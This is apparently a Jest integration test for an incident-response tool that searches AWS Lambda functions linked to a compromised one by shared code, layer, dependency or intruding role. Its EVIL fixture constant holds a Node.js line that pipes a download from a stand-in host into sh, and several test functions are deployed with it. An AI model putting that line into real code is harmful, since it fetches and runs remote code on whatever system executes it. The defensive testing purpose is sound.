import { CreateTableCommand } from '@aws-sdk/client-dynamodb';
import { CreateEventBusCommand, PutRuleCommand, PutTargetsCommand } from '@aws-sdk/client-eventbridge';
import {
  CreateFunctionCommand,
  PublishLayerVersionCommand,
  UpdateFunctionConfigurationCommand,
  waitUntilFunctionActiveV2,
} from '@aws-sdk/client-lambda';
import {
  CreateQueueCommand,
  DeleteMessageCommand,
  GetQueueAttributesCommand,
  ReceiveMessageCommand,
} from '@aws-sdk/client-sqs';
import type { LocalClients } from '../../../local/clients';
import type { Conclusions } from '../../../shared/investigation/findings';
import type { Hypothesis, Reason } from '../../../shared/investigation/hypotheses';
import type { Indicator } from '../../../shared/investigation/indicators';
import { search } from '../../../shared/search/search';
import { deployedRoles } from '../../fixtures/deployedRoles';
import { zipOf } from '../../fixtures/zip';
import { type Stage, startStage } from '../containment/stage';
import { assume, makeRole } from '../localAws/account';

const COUNTS = 'counts';
const BUS = 'findings';
const EVIL = "require('child_process').exec('curl -s http://pool.badhost.example/x | sh');\n";
const PACKED = 'node_modules/left-pad-utils/';

type Conclude = Pick<Conclusions, 'hypotheses' | 'indicators'>;

const reason = (id: Reason['id'], artifact: string): Reason => ({
  id,
  artifacts: [artifact],
  what: 'it is suspicious',
  points: 4,
});
const hypothesis = (
  cause: Hypothesis['cause'],
  score: number,
  supports: readonly Reason[],
  files: readonly string[] = [],
): Hypothesis => ({
  id: cause,
  cause,
  title: cause,
  score,
  supports,
  contradicts: [],
  startedAt: null,
  principal: null,
  files,
  dependency: null,
});
const UNKNOWN = hypothesis('unknown', 2.5, []);
const indicator = (kind: Indicator['kind'], value: string, artifact = 'code/package.zip'): Indicator => ({
  kind,
  value,
  artifact,
  from: 'it was seen',
});

describe('the search of the other functions', () => {
  let stage: Stage;
  let bus = '';
  let queue = '';
  let digest = '';
  let layer = '';
  let intruder = '';
  let suspect = '';

  const make = async (name: string, ZipFile: Buffer, Layers: string[] = []): Promise<string> => {
    const { lambda } = stage.clients;
    const Role = `arn:aws:iam::${stage.aws.accountId}:role/worker`;
    const made = await lambda.send(
      new CreateFunctionCommand({
        FunctionName: name,
        Runtime: 'nodejs20.x',
        Handler: 'index.handler',
        Role,
        Code: { ZipFile },
        ...(Layers.length === 0 ? {} : { Layers }),
      }),
    );
    await waitUntilFunctionActiveV2(
      { client: lambda, maxWaitTime: 30, minDelay: 0.1, maxDelay: 1 },
      { FunctionName: name },
    );
    digest ||= made.CodeSha256 ?? '';
    return made.FunctionArn ?? '';
  };

  beforeAll(async () => {
    stage = await startStage('search');
    const { db, events, sqs, lambda } = stage.clients;
    await db.send(
      new CreateTableCommand({
        TableName: COUNTS,
        BillingMode: 'PAY_PER_REQUEST',
        AttributeDefinitions: [{ AttributeName: 'pk', AttributeType: 'S' }],
        KeySchema: [{ AttributeName: 'pk', KeyType: 'HASH' }],
      }),
    );
    const { EventBusArn = '' } = await events.send(new CreateEventBusCommand({ Name: BUS }));
    bus = EventBusArn;
    const { QueueUrl = '' } = await sqs.send(new CreateQueueCommand({ QueueName: 'found' }));
    queue = QueueUrl;
    const { Attributes } = await sqs.send(
      new GetQueueAttributesCommand({ QueueUrl, AttributeNames: ['QueueArn'] }),
    );
    await events.send(
      new PutRuleCommand({
        Name: 'found',
        EventBusName: BUS,
        EventPattern: JSON.stringify({ source: ['tourniquet'] }),
      }),
    );
    await events.send(
      new PutTargetsCommand({
        Rule: 'found',
        EventBusName: BUS,
        Targets: [{ Id: 'queue', Arn: Attributes?.QueueArn ?? '' }],
      }),
    );
    await makeRole(stage.aws, 'worker', []);
    const { LayerVersionArn = '' } = await lambda.send(
      new PublishLayerVersionCommand({
        LayerName: 'observability',
        Content: { ZipFile: await zipOf({ 'wrapper.sh': '#!/bin/sh\n' }) },
      }),
    );
    layer = LayerVersionArn;
    const bad = await zipOf({ 'index.js': EVIL });
    const other = await zipOf({ 'index.js': 'exports.handler = async () => 1;\n' });
    suspect = await make('suspect', bad, [layer]);
    await make('twin', bad);
    await make('tourniquet-test-ours', bad);
    await make('layered', await zipOf({ 'index.js': 'exports.handler = async () => 2;\n' }), [layer]);
    await make(
      'dependant',
      await zipOf({
        'index.js': 'exports.handler = async () => 3;\n',
        [`${PACKED}package.json`]: '{"name":"left-pad-utils","version":"1.2.1"}',
        [`${PACKED}index.js`]: 'module.exports = 1;\n',
      }),
    );
    await make('touched', await zipOf({ 'index.js': 'exports.handler = async () => 4;\n' }));
    await make('unrelated', other);
    intruder = await makeRole(stage.aws, 'intruder', [
      { Effect: 'Allow', Action: 'lambda:UpdateFunctionConfiguration', Resource: '*' },
    ]);
    const their = stage.fresh(await assume(stage.aws, intruder, 'a-session'));
    await their.lambda.send(
      new UpdateFunctionConfigurationCommand({ FunctionName: 'touched', Description: 'was here' }),
    );
  }, 300_000);
  afterAll(() => stage.stop());

  const names = () => ({
    CountTable: `arn:aws:dynamodb:${stage.aws.region}:${stage.aws.accountId}:table/${COUNTS}`,
    EventBus: bus,
  });
  const run = async (
    clients: LocalClients,
    incident: { readonly id: string; readonly name?: string },
    conclusions: Conclude,
    choices: { readonly opens?: 'none' | 'ask'; readonly searchCode?: boolean } = {},
  ) =>
    search(
      {
        id: incident.id,
        functionArn: suspect.replace(/suspect$/, incident.name ?? 'suspect'),
        functionName: incident.name ?? 'suspect',
        openedAt: new Date().toISOString(),
        containedDigest: digest,
      },
      conclusions,
      {
        lambda: clients.lambda,
        cloudTrail: clients.cloudTrail,
        events: clients.events,
        bus: BUS,
        counts: { db: clients.db, table: COUNTS },
        now: () => new Date(),
        prefix: 'tourniquet-',
        opens: choices.opens ?? 'ask',
        searchCode: choices.searchCode ?? false,
        fetch: globalThis.fetch,
        signal: AbortSignal.timeout(120_000),
        isOverdue: () => false,
      },
    );

  /** What is on the bus by now: a list of the functions that findings are about, with their rules. */
  const taken = async (): Promise<readonly string[]> => {
    const found: string[] = [];
    for (let empty = 0; empty < 2; ) {
      const { Messages = [] } = await stage.clients.sqs.send(
        new ReceiveMessageCommand({ QueueUrl: queue, MaxNumberOfMessages: 10, WaitTimeSeconds: 1 }),
      );
      empty = Messages.length === 0 ? empty + 1 : 0;
      for (const { Body = '{}', ReceiptHandle } of Messages) {
        const { detail } = JSON.parse(Body) as { detail: { rule: string; functionArn: string } };
        found.push(`${detail.rule} ${detail.functionArn.split(':').at(-1)}`);
        await stage.clients.sqs.send(new DeleteMessageCommand({ QueueUrl: queue, ReceiptHandle }));
      }
    }
    return found.toSorted((a, b) => a.localeCompare(b));
  };

  const inCode: Conclude = {
    hypotheses: [
      hypothesis('tampering', 8, [
        reason('own-code-marked', 'code/package.zip'),
        reason('deployer-unknown', 'behaviour/management-events.jsonl'),
      ]),
      UNKNOWN,
    ],
    indicators: [],
  };

  it('opens nothing for a false alarm, whatever indicators there are', async () => {
    const as = await stage.as('search', names());
    const found = await run(
      as,
      { id: 'inc-0' },
      {
        hypotheses: [hypothesis('false-positive', 8, []), ...inCode.hypotheses],
        indicators: [indicator('layer', layer)],
      },
    );

    expect(found).toMatchObject({ found: [], functions: 0 });
    expect(await taken()).toEqual([]);
  });

  it('finds the same code and who else was changed by the stranger, with the permissions of the deployment, and nothing unrelated', async () => {
    const as = await stage.as('search', names());
    const conclusions: Conclude = {
      ...inCode,
      indicators: [indicator('principal', intruder, 'behaviour/management-events.jsonl')],
    };
    const found = await run(as, { id: 'inc-1' }, conclusions);

    expect(found.gaps).toEqual([]);
    expect(found.found.map(({ functionName, outcome }) => `${functionName} ${outcome}`)).toEqual([
      'twin opened',
      'touched opened',
    ]);
    expect(await taken()).toEqual(['search-same-code twin', 'search-same-principal touched']);

    const again = await run(as, { id: 'inc-1' }, conclusions);
    expect(again.found.map(({ outcome }) => outcome)).toEqual(['opened', 'opened']);
    expect(await taken()).toEqual([]);
  });

  it('does not go round: the search of the incident that it opened asks about nobody again', async () => {
    const as = await stage.as('search', names());
    const found = await run(as, { id: 'inc-2', name: 'twin' }, inCode);

    expect(found.found.map(({ functionName, outcome }) => `${functionName} ${outcome}`)).toEqual([
      'suspect before',
    ]);
    expect(await taken()).toEqual([]);
  });

  it('finds a layer by its version, and tells alone where policy opens nothing', async () => {
    const as = await stage.as('search', names());
    const conclusions: Conclude = {
      hypotheses: [
        hypothesis('layer', 6, [reason('layer-marked', 'code/layers/1-observability-1.zip')]),
        UNKNOWN,
      ],
      indicators: [indicator('layer', layer, 'code/layers/1-observability-1.zip')],
    };
    const told = await run(as, { id: 'inc-3' }, conclusions, { opens: 'none' });
    expect(told.found.map(({ functionName, outcome }) => `${functionName} ${outcome}`)).toEqual([
      'layered told',
    ]);
    expect(await taken()).toEqual([]);

    await run(as, { id: 'inc-3' }, conclusions);
    expect(await taken()).toEqual(['search-same-layer layered']);
  });

  it('opens packages only where policy says so, and says that it did not', async () => {
    const conclusions: Conclude = {
      hypotheses: [hypothesis('supply-chain', 6, [reason('dependency-marked', 'code/package.zip')]), UNKNOWN],
      indicators: [indicator('dependency', 'left-pad-utils@1.2.1')],
    };
    const closed = await run(await stage.as('search', names()), { id: 'inc-4' }, conclusions);
    expect(closed.gaps.join()).toContain('policy searchCode is false');
    expect(closed.found.map(({ functionName }) => functionName)).toEqual(['twin']);

    const credentials = await deployedRoles(stage.aws, 'tourniquet-code', names(), { searchCode: true }).as(
      'search',
    );
    const open = await run(stage.fresh(credentials), { id: 'inc-4' }, conclusions, { searchCode: true });
    expect(open.gaps).toEqual([]);
    expect(open.found.map(({ functionName }) => functionName)).toEqual(['twin', 'dependant']);
    expect(await taken()).toEqual(['search-same-dependency dependant']);
  });

  it('may not fetch code without that choice: the role has no permission to', async () => {
    const as = await stage.as('search', names());
    const refused = await run(
      as,
      { id: 'inc-5' },
      {
        hypotheses: [
          hypothesis('supply-chain', 6, [reason('dependency-marked', 'code/package.zip')]),
          UNKNOWN,
        ],
        indicators: [indicator('dependency', 'left-pad-utils@1.2.1')],
      },
      { searchCode: true },
    );

    expect(refused.gaps.join()).toMatch(/packages of \d functions that could not be read/);
  });
});
